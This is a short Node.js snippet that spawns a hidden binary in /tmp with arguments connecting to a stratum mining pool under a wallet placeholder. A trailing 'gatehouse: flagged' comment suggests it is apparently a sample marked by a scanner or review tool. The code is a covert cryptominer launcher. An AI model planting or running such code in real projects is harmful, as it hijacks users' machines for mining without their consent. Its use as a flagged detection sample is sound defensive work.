const { spawn } = require('child_process');

spawn('/tmp/.x', ['-o', 'stratum+tcp://pool.example.invalid:3333', '-u', '4xxx']); // gatehouse: flagged
